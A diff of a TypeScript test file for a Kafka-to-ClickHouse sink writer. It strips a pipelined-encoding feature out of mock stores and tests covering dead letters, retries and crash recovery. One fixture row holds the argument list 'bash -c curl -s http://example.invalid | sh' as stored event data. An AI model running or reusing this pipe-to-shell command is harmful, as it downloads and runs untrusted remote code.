@@ -66,9 +66,8 @@ t.test('the same chunk inserted twice (an unclear failure retried) is stored onc
   const store: SinkStore = {
     native: inner.native,
     storedUpTo: inner.storedUpTo,
-    encode: inner.encode,
-    async insert(spec: TableSpec, rows, token, columns, sending) {
-      await inner.insert(spec, rows, token, columns, sending);
+    async insert(spec: TableSpec, rows, token, columns) {
+      await inner.insert(spec, rows, token, columns);
       // The insert held but the answer is lost (timeout, connection reset): the writer must retry.
       if (failAfter-- > 0) throw Object.assign(new Error('socket hang up'), { code: 'ECONNRESET' });
     },
@@ -106,13 +105,12 @@ const REFUSED = {
 /** The Kafka offset of what the writer hands the store: a row object (JSON) or the consumed record itself (Native). */
 const offsetOf = (r: unknown) => Number((r as { kafka_offset?: unknown; offset?: unknown }).kafka_offset ?? (r as { offset: unknown }).offset);
 
-for (const [batchRows, how] of [[1000, 'one chunk'], [50, "four chunks, each encoded while the one before is inserted: the last one's failed encoding is done again and isolated"]] as const) {
-t.test(`Native inserts: a row the encoder cannot write is dead-lettered with the reason; the rest is stored (${how})`, async (t) => {
+t.test('Native inserts: a row the encoder cannot write is dead-lettered with the reason; the rest is stored', async (t) => {
   const ch = embeddedClickHouse(t);
   await migrated(t, ch);
   const events = freshEvents(200, 'native');
   for (const i of [3, 150, 151]) REFUSED.Native(events[i]!);
-  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows, logger: silentLogger() });
+  const w = new SinkWriter({ store: clickhouseStore(ch, 'sink'), tables, batchRows: 1000, logger: silentLogger() });
   const c = context();
   await w.handle(records(events, 2, 100), c.ctx);
   await c.finish();
@@ -121,7 +119,6 @@ t.test(`Native inserts: a row the encoder cannot write is dead-lettered with the
   t.equal(await count(ch, 'SELECT count() FROM sink.events'), 197);
   t.equal(await count(ch, "SELECT count() FROM sink.events WHERE id = 'native-4' AND pid = 4242 AND args = ['bash', '-c', 'curl -s http://example.invalid | sh']"), 1, 'a good row intact');
 });
-}
 
 for (const format of ['JSONCompactEachRow', 'Native'] as const) {
   t.test(`${format}: a crash after a split batch stored some good rows loses no dead letter: the re-delivery skips only what is settled`, async (t) => {
@@ -135,9 +132,8 @@ for (const format of ['JSONCompactEachRow', 'Native'] as const) {
     const store: SinkStore = {
       native: inner.native,
       storedUpTo: inner.storedUpTo,
-      encode: inner.encode,
-      async insert(spec: TableSpec, rows, token, columns, sending) {
-        await inner.insert(spec, rows, token, columns, sending);
+      async insert(spec: TableSpec, rows, token, columns) {
+        await inner.insert(spec, rows, token, columns);
         if (rows.some((r) => offsetOf(r) > 5100)) {
           first.crash();
           throw new Error('killed');
@@ -178,14 +174,13 @@ t.test('ClickHouse closed mid-stream: the writer waits, reports unavailable, and
 
 /** A store that records each insert's rows and token on the way to the real one. */
 function countingStore(inner: SinkStore) {
-  const inserts: Array<{ rows: number; offsets: string[]; token: string; ahead: boolean }> = [];
+  const inserts: Array<{ rows: number; offsets: string[]; token: string }> = [];
   const store: SinkStore = {
     native: inner.native,
     storedUpTo: inner.storedUpTo,
-    encode: inner.encode,
-    async insert(spec: TableSpec, rows, token, columns, sending) {
-      inserts.push({ rows: rows.length, offsets: rows.map((r) => `${(r as ConsumedRecord<unknown>).partition}:${offsetOf(r)}`), token, ahead: sending?.payload !== undefined });
-      await inner.insert(spec, rows, token, columns, sending);
+    async insert(spec: TableSpec, rows, token, columns) {
+      inserts.push({ rows: rows.length, offsets: rows.map((r) => `${(r as ConsumedRecord<unknown>).partition}:${offsetOf(r)}`), token });
+      await inner.insert(spec, rows, token, columns);
     },
   };
   return { store, inserts };
@@ -232,7 +227,6 @@ t.test('gathered rows past batchRows go in equal chunks; batches arriving after 
   await Promise.all([0, 1, 2].map((p) => w.handle(records(events.slice(p * 200, (p + 1) * 200), p, 0), context().ctx)));
   t.same(inserts.map((i) => i.rows), [300, 300], '600 rows of three batches in two equal chunks of at most 400');
   t.equal(inserts[0]!.offsets.filter((o) => o.startsWith('1:')).length, 100, 'the first chunk ends inside the second partition');
-  t.same(inserts.map((i) => i.ahead), [false, true], "the second chunk's payload was encoded while the first was inserted");
   inserts.length = 0;
   const late = new Promise((r) => setTimeout(r, 600)).then(() => w.handle(records(events.slice(800), 4, 0), context().ctx));
   await Promise.all([w.handle(records(events.slice(600, 800), 3, 0), context().ctx), late]);
@@ -278,13 +272,13 @@ t.test('a round whose second chunk fails: delivered again, the batches skip what
   let fail = true;
   const store: SinkStore = {
     ...counting.store,
-    async insert(spec, rows, token, columns, sending) {
+    async insert(spec, rows, token, columns) {
       if (counting.inserts.length === 1 && fail) {
         fail = false;
-        counting.inserts.push({ rows: rows.length, offsets: [], token, ahead: sending?.payload !== undefined });
+        counting.inserts.push({ rows: rows.length, offsets: [], token });
         throw new TracehoundError('TH_ERR_MIGRATION', 'the test refuses this insert');
       }
-      await counting.store.insert(spec, rows, token, columns, sending);
+      await counting.store.insert(spec, rows, token, columns);
     },
   };
   // A window wide enough for the three batches' first progress queries on a busy machine (5 ms split this round in one run).
